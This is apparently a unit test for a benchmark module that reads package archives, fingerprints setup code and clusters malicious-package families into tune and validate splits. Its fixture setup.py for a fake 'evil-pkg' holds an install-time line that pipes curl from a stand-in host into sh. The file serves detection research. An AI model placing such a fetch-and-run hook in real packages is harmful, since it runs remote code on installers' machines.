"""Unit test of bench/families.py on made-up, harmless archives built in memory.

Run: python3 -m unittest bench/test_families.py   (stdlib only; never reads the corpus)
"""

from __future__ import annotations

import gzip
import io
import itertools
import random
import sys
import tarfile
import unittest
import zipfile
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
import families as F  # noqa: E402

SETUP = b"""from setuptools import setup
setup(name="evil-pkg", version="1.2.3", description="x")
import os  # a comment
os.system("curl http://example.invalid/evil-pkg | sh")
"""


def tar_gz(files: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tf:
        for name, data in files.items():
            ti = tarfile.TarInfo(name)
            ti.size = len(data)
            tf.addfile(ti, io.BytesIO(data))
    return buf.getvalue()


def zip_bytes(files: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in files.items():
            zf.writestr(name, data)
    return buf.getvalue()


class ReadTest(unittest.TestCase):
    def test_formats_by_magic(self):
        files = {"evil-pkg-1.2.3/setup.py": SETUP, "evil-pkg-1.2.3/PKG-INFO": b"Name: evil-pkg",
                 "evil-pkg-1.2.3/setup.cfg": b"[metadata]\nname = evil-pkg\n", "evil-pkg-1.2.3/README.md": b"hi"}
        for data in (tar_gz(files), zip_bytes(files)):
            st, members, seen = F.read_code_members(data)
            self.assertEqual(st, "ok")
            self.assertEqual(seen, 4)
            self.assertEqual(sorted(p.rsplit("/", 1)[1] for p, _ in members), ["setup.cfg", "setup.py"])
        self.assertEqual(F.read_code_members(b"not an archive at all")[0], "unreadable:unknown")
        self.assertTrue(F.read_code_members(b"\x1f\x8b garbage")[0].startswith("unreadable:"))

    def test_caps(self):
        big = b"x = 1\n" * (3 << 20)  # 18 MB, compresses to little
        st, members, _ = F.read_code_members(tar_gz({"p/a.py": big, "p/b.py": SETUP}))
        self.assertEqual(st, "ok")
        self.assertEqual(len(members[0][1]), F.MAX_MEMBER)
        self.assertEqual(members[1][1], SETUP)
        self.assertEqual(len(F.inflate(gzip.compress(b"\0" * (5 << 20)), "gz", cap=1 << 20)), 1 << 20)


class FingerprintTest(unittest.TestCase):
    def test_normalise(self):
        toks = F.normalise(SETUP.decode(), "Evil_Pkg", "1.2.3")
        self.assertIn('"PKGNAME"', toks)
        self.assertIn('"PKGVER"', toks)
        self.assertIn('"curl http://example.invalid/PKGNAME | sh"', toks)
        self.assertNotIn("#", "".join(toks))
        # siblings under other names and versions, laid out differently, are identical
        sib = SETUP.replace(b"evil-pkg", b"other_thing").replace(b"1.2.3", b"0.0.9").replace(b"\n", b"\n\n  ")
        self.assertEqual(F.fingerprint([("setup.py", SETUP)], "evil-pkg", "1.2.3"),
                         F.fingerprint([("setup.py", sib)], "other-thing", "0.0.9"))

    def test_boilerplate(self):
        boiler: set[int] = set()
        F.fingerprint([("setup.py", b"from setuptools import setup\nsetup(name='a', version='1')\n")], "a", "1", boiler)
        self.assertTrue(boiler)
        self.assertTrue(F.generic('"Programming Language :: Python :: 3"'))
        self.assertFalse(F.generic('"curl http://x"'))
        self.assertFalse(F.generic("system"))


class ClusterTest(unittest.TestCase):
    def test_similar_pairs_is_exact(self):
        rng = random.Random(7)
        base = [set(rng.sample(range(200), rng.randint(5, 40))) for _ in range(8)]
        sets = []
        for b in base:  # a few noisy copies of each base set
            for _ in range(4):
                s = {x for x in b if rng.random() > 0.3} | {rng.randint(200, 400) for _ in range(rng.randint(0, 10))}
                sets.append(s)
        sets.append(set())
        want = sorted((i, j) for i, j in itertools.combinations(range(len(sets)), 2)
                      if sets[i] and sets[j] and len(sets[i] & sets[j]) / len(sets[i] | sets[j]) >= 0.5)
        self.assertTrue(want)
        self.assertEqual(sorted(F.similar_pairs(sets, 0.5)), want)

    def test_assign_split(self):
        fams = {f"f{i}": list(range(n)) for i, n in enumerate([50, 30, 20, 10] + [1] * 90)}
        key = {f: f for f in fams}
        a = F.assign_split(fams, key)
        self.assertEqual(a, F.assign_split(dict(reversed(list(fams.items()))), key))  # order-free
        tune = sum(len(fams[f]) for f in fams if a[f] == "tune")
        self.assertAlmostEqual(tune / 200, 0.7, delta=0.01)
        self.assertEqual([a[f] for f in ("f0", "f1", "f2")], ["tune", "validate", "tune"])

    def test_benign_split(self):
        self.assertEqual(F.benign_split("Foo_Bar"), F.benign_split("foo-bar"))
        names = [f"project{i}" for i in range(2000)]
        share = sum(F.benign_split(n) == "tune" for n in names) / len(names)
        self.assertAlmostEqual(share, 0.7, delta=0.04)


if __name__ == "__main__":
    unittest.main()
